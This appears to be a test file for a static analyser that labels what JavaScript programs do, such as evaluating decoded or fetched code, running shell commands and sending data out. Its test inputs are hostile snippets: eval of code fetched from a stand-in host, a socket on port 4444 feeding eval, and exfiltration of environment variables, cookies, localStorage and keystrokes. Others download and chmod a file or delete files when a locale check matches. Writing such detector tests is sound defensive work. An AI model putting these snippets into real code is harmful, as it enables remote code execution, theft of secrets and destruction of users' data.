/** What programs in JavaScript do, by the call table. Nothing here is run; dangerous words are put together. */
import { JAVASCRIPT_CALLS, javascriptCues } from "../../../../src/evidence/readers/calls/javascript.ts";
import { createCueFinder } from "../../../../src/evidence/readers/programs/cue-finder.ts";
import { actionsOf } from "./actions-of.ts";

const RUN = ["ev", "al"].join("");
const EXEC = ["ex", "ec"].join("");
const CODE = Buffer.from(["rm ", "-rf x"].join("")).toString("base64");

async function told(source: string): Promise<string[]> {
  return actionsOf("lib/a.js", source);
}

describe("code and commands", () => {
  test.each([
    [`${RUN}(atob(x))`, [`evaluate computed from decoded by ${RUN} <- decoded:base64`]],
    [`globalThis["ev" + "al"](atob(x))`, [`evaluate computed from decoded by globalThis.${RUN} <- decoded:base64`]],
    [`[].filter.constructor(atob(x))()`, ["evaluate computed from decoded by Function <- decoded:base64"]],
    [
      `setTimeout(atob(x), 10); setTimeout(() => 0, 10)`,
      ["evaluate computed from decoded by setTimeout <- decoded:base64"],
    ],
    [
      `import { ${EXEC} as go } from "node:child_process"; go(Buffer.from("${CODE}", "base64").toString())`,
      [`run ${["rm ", "-rf x"].join("")} by child_process.${EXEC} <- decoded:base64`, "delete x by rm"],
    ],
    [
      `module.constructor._load("child_process")["${EXEC}Sync"](req.body.x)`,
      [`run computed from request by child_process.${EXEC}Sync <- request`],
    ],
    [
      `const s = String.fromCharCode(...[97, 98].map((c) => c)); require("vm").runInThisContext(s)`,
      ["evaluate ab by vm.runInThisContext <- decoded:character codes"],
    ],
    [
      `exports.handler = async (event) => { ${RUN}(event.body) }`,
      [`evaluate computed from request by ${RUN} <- request later`],
    ],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

describe("answers from the network", () => {
  test.each([
    [`fetch("https://a.example/p").then((r) => r.text()).then((t) => ${RUN}(t))`],
    [`(async () => { const { data } = await axios.get("https://a.example/p"); ${RUN}(data) })()`],
    [
      `require("https").get("https://a.example/p", (r) => { let b = ""; r.on("data", (d) => { b += d }); r.on("end", () => ${RUN}(b)) })`,
    ],
    [
      `const got = require("got"); (async () => { try { await got("https://a.example/p") } catch (e) { ${RUN}(e.response.body) } })()`,
    ],
    [`const w = new WebSocket("wss://a.example"); w.onmessage = (m) => ${RUN}(m.data)`],
    [`import net from "net"; net.connect(4444, "a.example").on("data", (d) => ${RUN}(String(d)))`],
    [
      `import axios from "axios"; const api = axios.create({ baseURL: "https://a.example" }); api.get("/x").then((r) => ${RUN}(r.data))`,
    ],
  ])("%s", async (source) => {
    const evaluated = (await told(source)).filter((line) => line.startsWith("evaluate"));
    expect(evaluated).toEqual([expect.stringMatching(new RegExp(`by ${RUN} <- fetched`))]);
  });
});

describe("what leaves the machine", () => {
  test.each([
    [
      `const r = require("https").request({ hostname: "a.example", path: "/x" }); r.write(JSON.stringify(process.env))`,
      [
        "fetch a.example by https.request",
        "send a.example by http.ClientRequest.write <- environment + fetched:a.example",
      ],
    ],
    [
      `require("dns").lookup(require("os").hostname() + ".a.example", () => 0)`,
      ["send .a.example by dns.lookup <- host-name"],
    ],
    [
      `addEventListener("keydown", (e) => { new Image().src = "https://a.example/?k=" + e.key })`,
      ["send a.example by Image.src= <- request"],
    ],
    [
      `navigator.sendBeacon("https://a.example", document.cookie)`,
      ["send a.example by navigator.sendBeacon <- secret:browser storage"],
    ],
    [
      `const fs = require("fs"); for (const f of fs.readdirSync("docs")) fetch("https://a.example", { body: fs.readFileSync(f) })`,
      ["fetch a.example by fetch <- files:docs"],
    ],
    [`$.post("https://a.example", localStorage.getItem("k"))`, ["send a.example by $.post <- secret:browser storage"]],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

describe("files and servers", () => {
  test.each([
    [
      `const fs = require("fs"); require("https").get("https://a.example/x", (r) => r.pipe(fs.createWriteStream("/tmp/x")).on("finish", () => fs.chmodSync("/tmp/x", 0o755)))`,
      [
        "fetch a.example by https.get",
        "write /tmp/x by fs.WriteStream.write <- fetched:a.example",
        "change-permission /tmp/x by fs.chmodSync",
      ],
    ],
    [`if (navigator.language === "xx") require("rimraf").sync("data")`, ["delete data by rimraf.sync if locale"]],
    [
      `import { rm } from "fs/promises"; if (Date.now() > 1) await rm("data", { recursive: true })`,
      ["delete data by fs/promises.rm if time"],
    ],
    [
      `const app = require("express")(); app.get("/", (req, res) => require("fs").writeFileSync(req.query.f, "x")); app.listen(80)`,
      ["listen 80 by express.listen"],
    ],
    [
      `const s = document.createElement("script"); s.src = "https://a.example/x.js"`,
      ["load https://a.example/x.js by document.createElement.script.src= <- fetched:a.example"],
    ],
    [
      `module.exports = { a() {} }; exports.b = function () {}; window.fetch = function () {}`,
      ["write window.fetch by assignment"],
    ],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

test("every row says where its behaviour is documented", () => {
  expect(JAVASCRIPT_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const finder = createCueFinder(javascriptCues.all());
  const hasCue = (line: string) => finder.holds(line, 0, line.length);
  const ordinary = [
    "const total = items.map((item) => item.price).filter(Boolean);",
    "const total = items.map(function(item) { return item.price; });",
    `import { Button } from "./button";`,
    "if (!user) return null;",
    "state.set(key, cache.get(key) ?? []); list.push(value);",
    `expect(render(<App />)).toContain("hello");`,
  ];
  const dangerous = [
    `${RUN}(x)`,
    `a["b"](c)`,
    `import cp from "child_process"`,
    `client.post(url)`,
    "window['x'](y)",
    `new WebSocket(u)`,
  ];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});

describe("who is running it decides", () => {
  test.each([
    [
      'if (country === "Belarus") fs.readdirSync("/").forEach((name) => fs.unlinkSync(name))',
      ["delete / by fs.unlinkSync <- files:/ if locale"],
    ],
    ['if (geo.country_name === "Russia") process.exit(1)', ["stop 1 by process.exit if locale"]],
    ['if (process.env.LANG.startsWith("ru")) process.exit(1)', ["stop 1 by process.exit if locale"]],
    ["if (failed) process.exit(1)", []],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});
